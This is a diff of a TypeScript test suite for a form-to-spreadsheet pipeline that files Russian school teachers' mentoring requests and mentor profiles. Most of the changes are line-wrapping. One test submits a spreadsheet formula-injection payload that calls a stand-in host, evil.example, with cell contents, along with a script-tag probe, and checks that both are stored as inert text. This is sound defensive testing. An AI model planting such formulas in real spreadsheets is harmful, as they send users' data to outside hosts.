@@ -14,7 +14,9 @@ function cellFormulas(wb: ReturnType<typeof formsWorkbook>): string[] {
   const out: string[] = [];
   for (const sheet of wb.spreadsheet().getSheets()) {
     const r = sheet.getDataRange();
-    r.getFormulas().forEach((row, i) => row.forEach((f, j) => f && out.push(`${sheet.getName()}!R${i + 1}C${j + 1}: ${f}`)));
+    r.getFormulas().forEach((row, i) =>
+      row.forEach((f, j) => f && out.push(`${sheet.getName()}!R${i + 1}C${j + 1}: ${f}`)),
+    );
   }
   return out;
 }
@@ -26,7 +28,9 @@ function journal(wb: ReturnType<typeof formsWorkbook>): Array<Record<string, unk
 describe('a new teacher answers', () => {
   test('the request lands in «Наставляемые»: a new id, source «форма», status «ожидает», every field of the form', () => {
     const wb = formsWorkbook();
-    const { results } = wb.submit('requests', requestAnswers({ 'Предпочитаемый наставник': 'Петрова М. И.' }), { respondentEmail: 'Anna.Ivanova@School.example' });
+    const { results } = wb.submit('requests', requestAnswers({ 'Предпочитаемый наставник': 'Петрова М. И.' }), {
+      respondentEmail: 'Anna.Ivanova@School.example',
+    });
     expect(results.map((r) => r.status)).toEqual(['filed']);
     const [row] = bankRows(wb, MENTEES);
     expect(row).toMatchObject({
@@ -46,19 +50,26 @@ describe('a new teacher answers', () => {
     });
     expect(row!['Дата приёма на работу']).toBeInstanceOf(Date);
     expect(row!['Дата запроса']).toEqual(row!['Согласие (дата)']);
-    expect(journal(wb).some((j) => j['Что'] === 'Ответ формы: добавлен в банк' && String(j['Подробности']).includes('НЯ-0001'))).toBe(true);
+    expect(
+      journal(wb).some(
+        (j) => j['Что'] === 'Ответ формы: добавлен в банк' && String(j['Подробности']).includes('НЯ-0001'),
+      ),
+    ).toBe(true);
     expect(wb.logs.join('\n')).toContain('добавлен');
   });
 
   test('a mentor profile lands in «Наставники» with capacity, forms of mentoring and the date added', () => {
     const wb = formsWorkbook();
-    wb.submit('mentors', mentorAnswers({ 'Формы наставничества': ['индивидуальная', 'групповая'] }), { respondentEmail: 'petrova@school.example' });
+    wb.submit('mentors', mentorAnswers({ 'Формы наставничества': ['индивидуальная', 'групповая'] }), {
+      respondentEmail: 'petrova@school.example',
+    });
     const [row] = bankRows(wb, MENTORS);
     expect(row).toMatchObject({
       ID: 'Н-0001',
       Email: 'petrova@school.example',
       'Квалификационная категория': 'высшая',
-      'Компетенции (с чем может помочь)': 'Методика преподавания предмета; Работа с родителями (законными представителями)',
+      'Компетенции (с чем может помочь)':
+        'Методика преподавания предмета; Работа с родителями (законными представителями)',
       'Вместимость, наставляемых': 2,
       'Формы наставничества': 'индивидуальная; групповая',
       'Стаж в этой школе, лет': 15,
@@ -73,7 +84,12 @@ describe('a new teacher answers', () => {
     try {
       const wb = formsWorkbook();
       wb.submit('requests', requestAnswers());
-      expect(spy).toHaveBeenCalledWith(expect.anything(), { bank: 'mentees', kind: 'added', ids: ['НЯ-0001'], source: 'форма' });
+      expect(spy).toHaveBeenCalledWith(expect.anything(), {
+        bank: 'mentees',
+        kind: 'added',
+        ids: ['НЯ-0001'],
+        source: 'форма',
+      });
     } finally {
       spy.mockRestore();
     }
@@ -82,7 +98,13 @@ describe('a new teacher answers', () => {
   test('text that looks like a formula or markup is stored as text: no cell anywhere holds a formula', () => {
     const wb = formsWorkbook();
     const payload = '=IMPORTXML("http://evil.example/?q="&A1,"//a")';
-    wb.submit('requests', requestAnswers({ 'Опишите профессиональные затруднения': payload, 'Предпочитаемый наставник': '<script>alert(1)</script>' }));
+    wb.submit(
+      'requests',
+      requestAnswers({
+        'Опишите профессиональные затруднения': payload,
+        'Предпочитаемый наставник': '<script>alert(1)</script>',
+      }),
+    );
     const [row] = bankRows(wb, MENTEES);
     expect(row!['Запрос своими словами']).toBe(payload);
     expect(row!['Желаемый наставник']).toBe('<script>alert(1)</script>');
@@ -101,9 +123,16 @@ describe('the same teacher answers again', () => {
     sheet.getRange(2, col('Пара/группа')).setValue('НП-2026-001');
     sheet.getRange(2, col('Примечания')).setValue('договорились о встречах по средам');
     wb.world.clock.advance(86_400_000);
-    wb.submit('requests', requestAnswers({ 'Педагогический стаж (полных лет)': '2', 'Преподаваемые предметы и направления': ['математика', 'информатика'] }), {
-      respondentEmail: 'ANNA.IVANOVA@school.example',
-    });
+    wb.submit(
+      'requests',
+      requestAnswers({
+        'Педагогический стаж (полных лет)': '2',
+        'Преподаваемые предметы и направления': ['математика', 'информатика'],
+      }),
+      {
+        respondentEmail: 'ANNA.IVANOVA@school.example',
+      },
+    );
     const rows = bankRows(wb, MENTEES);
     expect(rows).toHaveLength(1);
     expect(rows[0]).toMatchObject({
@@ -135,7 +164,10 @@ describe('spurious and duplicate events (§6.4)', () => {
   test('an empty and a blank event after a real answer are ignored with a log line; nothing else is written', () => {
     const wb = formsWorkbook();
     const a = wb.submit('requests', requestAnswers(), { emptyEvent: 'empty' });
-    const b = wb.submit('requests', requestAnswers(), { respondentEmail: 'second@school.example', emptyEvent: 'blank' });
+    const b = wb.submit('requests', requestAnswers(), {
+      respondentEmail: 'second@school.example',
+      emptyEvent: 'blank',
+    });
     expect(a.results.map((r) => r.status)).toEqual(['filed', 'spurious']);
     expect(b.results.map((r) => r.status)).toEqual(['filed', 'spurious']);
     expect(bankRows(wb, MENTEES)).toHaveLength(2);
@@ -164,14 +196,21 @@ describe('bad answers go to «Карантин», nothing is lost', () => {
       'Категория наставляемого': 'молодой специалист (стаж до 3 лет)',
       'Профессиональные запросы': 'Работа с родителями (законными представителями)',
       'Желаемая форма наставничества': 'индивидуальная',
-      'Согласие на участие в программе наставничества': 'Даю согласие на участие в программе наставничества в качестве наставляемого',
+      'Согласие на участие в программе наставничества':
+        'Даю согласие на участие в программе наставничества в качестве наставляемого',
     });
     expect(wb.deliver(e).status).toBe('filed');
     wb.deliver(e); // delivered twice: still one row
     expect(bankRows(wb, MENTEES)).toHaveLength(0);
     const q = bankRows(wb, 'Карантин');
     expect(q).toHaveLength(1);
-    expect(q[0]).toMatchObject({ Форма: 'Запросы педагогов', Email: 'nova@school.example', ФИО: 'Новикова Ольга Петровна', Статус: 'ждёт решения', 'Строка ответа': 'Ответы на форму (1), строка 2' });
+    expect(q[0]).toMatchObject({
+      Форма: 'Запросы педагогов',
+      Email: 'nova@school.example',
+      ФИО: 'Новикова Ольга Петровна',
+      Статус: 'ждёт решения',
+      'Строка ответа': 'Ответы на форму (1), строка 2',
+    });
     const reason = String(q[0]!['Причина']);
     expect(reason).toContain('Стаж должен быть числом лет, получено: «пять лет»');
     expect(reason).toContain('Неизвестный предмет: «астрология»');
@@ -185,7 +224,12 @@ describe('bad answers go to «Карантин», nothing is lost', () => {
   test('a 60,000-character answer is clipped in «Карантин» (a cell holds 50,000) and kept whole in the response sheet', () => {
     const wb = formsWorkbook();
     const huge = 'я'.repeat(60_000);
-    wb.deliver(wb.inject('requests', { 'Адрес электронной почты': 'big@school.example', 'Опишите профессиональные затруднения': huge }));
+    wb.deliver(
+      wb.inject('requests', {
+        'Адрес электронной почты': 'big@school.example',
+        'Опишите профессиональные затруднения': huge,
+      }),
+    );
     const q = bankRows(wb, 'Карантин');
     expect(String(q[0]!['Ответ']).length).toBeLessThanOrEqual(45_000);
     expect(String(q[0]!['Ответ'])).toContain('ответ обрезан');
@@ -202,7 +246,9 @@ describe('answers never lost: busy workbook, missing trigger', () => {
     expect(wb.logs.some((l) => l.includes('будет обработан'))).toBe(true);
     releaseHeldLock(wb.world, 'document');
     expect(wb.run((ctx) => getFormsStatus(ctx)).forms[0]!.pending).toBe(1);
-    const second = wb.submit('requests', requestAnswers({ 'Педагогический стаж (полных лет)': '2' }), { respondentEmail: 'anna.ivanova@school.example' });
+    const second = wb.submit('requests', requestAnswers({ 'Педагогический стаж (полных лет)': '2' }), {
+      respondentEmail: 'anna.ivanova@school.example',
+    });
     expect(second.results[0]!.runs[0]!.outcomes.map((o) => o.kind)).toEqual(['added', 'updated']);
     expect(bankRows(wb, MENTEES)[0]!['Педагогический стаж, лет']).toBe(2);
   });
